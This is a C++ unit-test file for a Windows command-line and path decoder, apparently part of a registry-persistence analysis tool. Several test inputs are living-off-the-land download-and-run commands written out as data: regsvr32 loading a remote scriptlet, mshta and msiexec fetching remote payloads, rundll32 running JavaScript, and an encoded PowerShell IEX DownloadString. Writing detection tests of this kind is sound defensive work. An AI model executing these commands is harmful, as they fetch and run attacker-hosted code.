// Environment expansion, path normalisation and command-line splitting (regpersist/decoders.h).
#include <gtest/gtest.h>

#include "regpersist/decoders.h"

namespace regpersist {
namespace {

Environment user_environment() {
  Environment env = Environment::windows_defaults();
  env.set_user_profile("C:\\Users\\bob");
  return env;
}

TEST(DecodersEnvironment, ExpandsKnownVariablesCaseInsensitively) {
  const Environment env = user_environment();
  EXPECT_EQ(expand_environment("%SystemRoot%\\system32\\x.exe", env), "C:\\Windows\\system32\\x.exe");
  EXPECT_EQ(expand_environment("%windir%\\a;%WINDIR%\\b", env), "C:\\Windows\\a;C:\\Windows\\b");
  EXPECT_EQ(expand_environment("%ProgramFiles(x86)%\\App", env), "C:\\Program Files (x86)\\App");
  EXPECT_EQ(expand_environment("%APPDATA%\\x.exe", env), "C:\\Users\\bob\\AppData\\Roaming\\x.exe");
  EXPECT_EQ(expand_environment("%ComSpec%", env), "C:\\Windows\\system32\\cmd.exe");  // nested variable
}

TEST(DecodersEnvironment, LeavesUnknownVariablesAndStrayPercentSigns) {
  const Environment env = user_environment();
  EXPECT_EQ(expand_environment("%NOPE%\\x.exe", env), "%NOPE%\\x.exe");
  EXPECT_EQ(expand_environment("100% of %windir%", env), "100% of C:\\Windows");  // "% of %" is unknown
  EXPECT_EQ(expand_environment("50%%windir%", env), "50%C:\\Windows");
  EXPECT_EQ(expand_environment("%1 %*", env), "%1 %*");
}

TEST(DecodersEnvironment, MachineValuesOverrideDefaultsAndSelfReferenceTerminates) {
  Environment env = Environment::windows_defaults("D:");
  env.set("TEMP", "%SystemRoot%\\TEMP");
  env.set("LOOP", "%LOOP%x");
  EXPECT_EQ(expand_environment("%temp%\\a", env), "D:\\Windows\\TEMP\\a");
  EXPECT_FALSE(expand_environment("%LOOP%", env).empty());  // bounded, no hang
  EXPECT_EQ(env.get("windir"), "D:\\Windows");
  EXPECT_FALSE(env.get("USERPROFILE").has_value());
}

TEST(DecodersEnvironment, UserProfileDerivesTheUserVariables) {
  const Environment env = user_environment();
  EXPECT_EQ(env.get("LOCALAPPDATA"), "C:\\Users\\bob\\AppData\\Local");
  EXPECT_EQ(env.get("tmp"), "C:\\Users\\bob\\AppData\\Local\\Temp");
  EXPECT_EQ(env.get("HOMEDRIVE"), "C:");
  EXPECT_EQ(env.get("HOMEPATH"), "\\Users\\bob");
}

TEST(DecodersNormalizePath, NativeAndDriverForms) {
  const Environment env = user_environment();
  EXPECT_EQ(normalize_path("\\SystemRoot\\System32\\drivers\\1394ohci.sys", env),
            "C:\\Windows\\System32\\drivers\\1394ohci.sys");
  EXPECT_EQ(normalize_path("System32\\drivers\\3ware.sys", env), "C:\\Windows\\System32\\drivers\\3ware.sys");
  EXPECT_EQ(normalize_path("system32\\VBoxService.exe", env), "C:\\Windows\\system32\\VBoxService.exe");
  EXPECT_EQ(normalize_path("\\??\\C:\\Windows\\system32\\Mnemosynei386.sys", env),
            "C:\\Windows\\system32\\Mnemosynei386.sys");
  EXPECT_EQ(normalize_path("\\\\?\\C:\\Tools\\a.exe", env), "C:\\Tools\\a.exe");
  EXPECT_EQ(normalize_path("\\\\?\\UNC\\srv\\share\\a.exe", env), "\\\\srv\\share\\a.exe");
  EXPECT_EQ(normalize_path("\\\\.\\C:\\x.sys", env), "C:\\x.sys");
  EXPECT_EQ(normalize_path("\\Windows\\explorer.exe", env), "C:\\Windows\\explorer.exe");
}

TEST(DecodersNormalizePath, QuotesSpacesSlashesUrlsAndCase) {
  const Environment env = user_environment();
  EXPECT_EQ(normalize_path("  \"%ProgramFiles%\\Vendor\\App.EXE\"  ", env), "C:\\Program Files\\Vendor\\App.EXE");
  EXPECT_EQ(normalize_path("C:/Users//bob///x.dll", env), "C:\\Users\\bob\\x.dll");
  EXPECT_EQ(normalize_path("file:///C:/Users/bob/a.hta", env), "C:\\Users\\bob\\a.hta");
  EXPECT_EQ(normalize_path("file://fileserver/share/a.hta", env), "\\\\fileserver\\share\\a.hta");
  EXPECT_EQ(normalize_path("\\\\host\\\\share\\a.exe", env), "\\\\host\\share\\a.exe");
  EXPECT_EQ(normalize_path("http://evil.example/a.hta", env), "http://evil.example/a.hta");
  EXPECT_EQ(normalize_path("explorer.exe", env), "explorer.exe");
  EXPECT_EQ(normalize_path("", env), "");
}

TEST(DecodersCommandLine, QuotedImageAndArguments) {
  const auto command = parse_command_line(
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window "
      "--win-session-start",
      user_environment());
  EXPECT_TRUE(command.quoted);
  EXPECT_FALSE(command.unquoted_path_with_spaces);
  EXPECT_EQ(command.image_path, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe");
  EXPECT_EQ(command.image_name, "msedge");
  EXPECT_EQ(command.arguments, "--no-startup-window --win-session-start");
  EXPECT_EQ(command.argv, (std::vector<std::string>{"--no-startup-window", "--win-session-start"}));
}

TEST(DecodersCommandLine, ExpandsBeforeSplitting) {
  const auto command = parse_command_line("%SystemRoot%\\system32\\svchost.exe -k netsvcs -p", user_environment());
  EXPECT_EQ(command.raw, "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p");
  EXPECT_EQ(command.expanded, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p");
  EXPECT_EQ(command.image_path, "C:\\Windows\\system32\\svchost.exe");
  EXPECT_EQ(command.argv, (std::vector<std::string>{"-k", "netsvcs", "-p"}));
  EXPECT_FALSE(command.unquoted_path_with_spaces);
  EXPECT_TRUE(command.candidate_images.empty());
}

TEST(DecodersCommandLine, UnquotedPathWithSpacesListsWhatCreateProcessTries) {
  const auto command = parse_command_line("C:\\Program Files\\Foo Bar\\x.exe -a", user_environment());
  EXPECT_FALSE(command.quoted);
  EXPECT_TRUE(command.unquoted_path_with_spaces);
  EXPECT_EQ(command.image_path, "C:\\Program Files\\Foo Bar\\x.exe");
  EXPECT_EQ(command.arguments, "-a");
  EXPECT_EQ(command.candidate_images, (std::vector<std::string>{"C:\\Program.exe", "C:\\Program Files\\Foo.exe",
                                                                "C:\\Program Files\\Foo Bar\\x.exe"}));
}

TEST(DecodersCommandLine, UnquotedPathWithoutExtensionStillAmbiguous) {
  const auto command = parse_command_line("C:\\Program Files\\Vendor\\agent -service", user_environment());
  EXPECT_TRUE(command.unquoted_path_with_spaces);
  EXPECT_EQ(command.image_path, "C:\\Program Files\\Vendor\\agent");
  EXPECT_EQ(command.arguments, "-service");
  EXPECT_EQ(command.candidate_images,
            (std::vector<std::string>{"C:\\Program.exe", "C:\\Program Files\\Vendor\\agent.exe"}));
}

TEST(DecodersCommandLine, FirstExecutablePrefixWinsOverPathsInArguments) {
  const auto command = parse_command_line("C:\\Tools\\a.exe C:\\Other\\b.exe", user_environment());
  EXPECT_EQ(command.image_path, "C:\\Tools\\a.exe");
  EXPECT_EQ(command.argv, (std::vector<std::string>{"C:\\Other\\b.exe"}));
  EXPECT_FALSE(command.unquoted_path_with_spaces);
}

TEST(DecodersCommandLine, BareNamesStayBare) {
  const auto command = parse_command_line("rdpclip", user_environment());
  EXPECT_EQ(command.image_path, "rdpclip");
  EXPECT_EQ(command.image_name, "rdpclip");
  EXPECT_TRUE(command.arguments.empty());
}

TEST(DecodersCommandLine, ArgumentsFollowCommandLineToArgvRules) {
  const auto command = parse_command_line(R"(x.exe "a b" c\\"d" e\"f "g\\\"h" "")", user_environment());
  EXPECT_EQ(command.argv, (std::vector<std::string>{"a b", "c\\d", "e\"f", "g\\\"h", ""}));
}

TEST(DecodersCommandLine, UnterminatedQuoteTakesTheRest) {
  const auto command = parse_command_line("\"C:\\Program Files\\x.exe -a", user_environment());
  EXPECT_TRUE(command.quoted);
  EXPECT_EQ(command.image_path, "C:\\Program Files\\x.exe -a");
  EXPECT_TRUE(command.arguments.empty());
}

TEST(DecodersCommandLine, Rundll32PayloadIsTheDllAndExport) {
  const Environment env = user_environment();
  auto command = parse_command_line("rundll32.exe C:\\Users\\bob\\AppData\\Roaming\\a.dat,Start extra", env);
  EXPECT_EQ(command.image_name, "rundll32");
  EXPECT_EQ(command.payload_path, "C:\\Users\\bob\\AppData\\Roaming\\a.dat");
  EXPECT_EQ(command.payload_export, "Start");

  command =
      parse_command_line(R"("C:\Windows\System32\rundll32.exe" "C:\Windows\System32\iesetup.dll",IEHardenUser)", env);
  EXPECT_EQ(command.payload_path, "C:\\Windows\\System32\\iesetup.dll");
  EXPECT_EQ(command.payload_export, "IEHardenUser");

  command = parse_command_line("rundll32 shell32.dll Control_RunDLL desk.cpl", env);
  EXPECT_EQ(command.payload_path, "shell32.dll");
  EXPECT_EQ(command.payload_export, "Control_RunDLL");

  command = parse_command_line("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"", env);
  EXPECT_EQ(command.payload_path, "javascript:\"\\..\\mshtml,RunHTMLApplication \"");
  EXPECT_TRUE(command.payload_export.empty());
}

TEST(DecodersCommandLine, Regsvr32ScriptletUrl) {
  const auto command = parse_command_line("regsvr32 /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll", user_environment());
  EXPECT_EQ(command.payload_path, "scrobj.dll");
  EXPECT_EQ(command.payload_argument, "http://10.0.0.5/a.sct");
}

TEST(DecodersCommandLine, MshtaScriptHostsAndMsiexecPayloads) {
  const Environment env = user_environment();
  EXPECT_EQ(parse_command_line("mshta.exe http://x.example/a.hta", env).payload_path, "http://x.example/a.hta");
  EXPECT_EQ(parse_command_line("mshta vbscript:Execute(\"x\")", env).payload_path, "vbscript:Execute(x)");
  EXPECT_EQ(parse_command_line("wscript.exe //B //Nologo %APPDATA%\\a.vbs", env).payload_path,
            "C:\\Users\\bob\\AppData\\Roaming\\a.vbs");
  const auto msi = parse_command_line("msiexec.exe /q /i https://x.example/p.msi", env);
  EXPECT_EQ(msi.payload_path, "https://x.example/p.msi");
  EXPECT_EQ(msi.payload_argument, "/i");
}

TEST(DecodersCommandLine, PowershellEncodedCommandIsDecoded) {
  // "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" as UTF-16LE base64.
  const auto command = parse_command_line(
      "powershell.exe -nop -w hidden -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh"
      "AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==",
      user_environment());
  EXPECT_TRUE(command.encoded_command);
  EXPECT_EQ(command.decoded_powershell, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
}

TEST(DecodersCommandLine, PowershellSwitchAbbreviations) {
  const Environment env = user_environment();
  auto command = parse_command_line("powershell -ExecutionPolicy Bypass -File \"C:\\Program Files\\V\\c.ps1\"", env);
  EXPECT_EQ(command.payload_path, "C:\\Program Files\\V\\c.ps1");
  EXPECT_FALSE(command.encoded_command);

  command = parse_command_line("pwsh -ec SQBFAFgA", env);
  EXPECT_TRUE(command.encoded_command);
  EXPECT_EQ(command.decoded_powershell, "IEX");

  command = parse_command_line("powershell -c \"$a=1; iex $a\"", env);
  EXPECT_EQ(command.powershell_command, "$a=1; iex $a");

  command = parse_command_line("powershell -Encoding utf8 -NoProfile Get-Date", env);
  EXPECT_FALSE(command.encoded_command);  // -Encoding is not -EncodedCommand
  EXPECT_EQ(command.powershell_command, "utf8 -NoProfile Get-Date");
}

TEST(DecodersCommandLine, PowershellBadBase64LeavesNothingDecoded) {
  const auto command = parse_command_line("powershell -e !!notbase64!!", user_environment());
  EXPECT_TRUE(command.encoded_command);
  EXPECT_TRUE(command.decoded_powershell.empty());
}

TEST(DecodersCommandLine, CmdWrapsTheCommandItRuns) {
  const Environment env = user_environment();
  auto command = parse_command_line("cmd.exe /q /c \"\"C:\\Program Files\\V\\x.exe\" -a\"", env);
  ASSERT_EQ(command.wrapped.size(), 1u);
  EXPECT_EQ(command.wrapped[0].image_path, "C:\\Program Files\\V\\x.exe");
  EXPECT_EQ(command.wrapped[0].arguments, "-a");

  command = parse_command_line("cmd /c start \"\" /min C:\\Users\\Public\\u.exe", env);
  ASSERT_EQ(command.wrapped.size(), 1u);
  EXPECT_EQ(command.wrapped[0].image_name, "start");
  ASSERT_EQ(command.wrapped[0].wrapped.size(), 1u);
  EXPECT_EQ(command.wrapped[0].wrapped[0].image_path, "C:\\Users\\Public\\u.exe");

  command = parse_command_line("%ComSpec%", env);
  EXPECT_EQ(command.image_name, "cmd");
  EXPECT_TRUE(command.wrapped.empty());
}

TEST(DecodersCommandLine, ForfilesConhostAndExplorerWrap) {
  const Environment env = user_environment();
  auto command = parse_command_line("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"c:\\temp\\x.exe\"", env);
  ASSERT_EQ(command.wrapped.size(), 1u);
  EXPECT_EQ(command.wrapped[0].image_path, "c:\\temp\\x.exe");

  command = parse_command_line("conhost.exe --headless C:\\ProgramData\\a.exe", env);
  ASSERT_EQ(command.wrapped.size(), 1u);
  EXPECT_EQ(command.wrapped[0].image_path, "C:\\ProgramData\\a.exe");

  command = parse_command_line("explorer.exe C:\\Users\\Public\\x.exe", env);
  ASSERT_EQ(command.wrapped.size(), 1u);
  EXPECT_TRUE(parse_command_line("explorer.exe", env).wrapped.empty());
  EXPECT_TRUE(parse_command_line("explorer.exe /select,C:\\x", env).wrapped.empty());
}

TEST(DecodersCommandLine, WrapperNestingIsBounded) {
  std::string text;
  for (int i = 0; i < 50; ++i) text += "cmd /c ";
  text += "C:\\x.exe";
  auto command = parse_command_line(text, user_environment());
  int depth = 0;
  const CommandLine* current = &command;
  while (!current->wrapped.empty()) current = &current->wrapped[0], ++depth;
  EXPECT_LE(depth, 4);
}

TEST(DecodersCommandLine, PathValueKeepsSpacesInTheImage) {
  const auto command =
      parse_path_value("\\??\\C:\\Program Files\\VMware\\VMware Tools\\vmrawdsk.sys", user_environment());
  EXPECT_EQ(command.image_path, "C:\\Program Files\\VMware\\VMware Tools\\vmrawdsk.sys");
  EXPECT_EQ(command.image_name, "vmrawdsk");
  EXPECT_FALSE(command.unquoted_path_with_spaces);
  EXPECT_TRUE(command.arguments.empty());
}

TEST(DecodersCommandLine, HostileInputsDoNotCrash) {
  const Environment env = user_environment();
  for (std::string_view text :
       {"", " ", "\"", "\"\"", "%", "%%%", "\\", "\\\\", "\\??\\", "cmd /c", "cmd /c \"", "rundll32", "rundll32 \"",
        "rundll32 ,", "powershell -enc", "start \"", "x.exe \\\\\\\""}) {
    const auto command = parse_command_line(text, env);
    EXPECT_LE(command.image_path.size(), text.size() + 32) << text;
  }
  const std::string invalid_utf8 = "C:\\x\xff\xfe.exe";
  EXPECT_EQ(parse_command_line(invalid_utf8, env).raw, "C:\\x\xEF\xBF\xBD\xEF\xBF\xBD.exe");
}

}  // namespace
}  // namespace regpersist
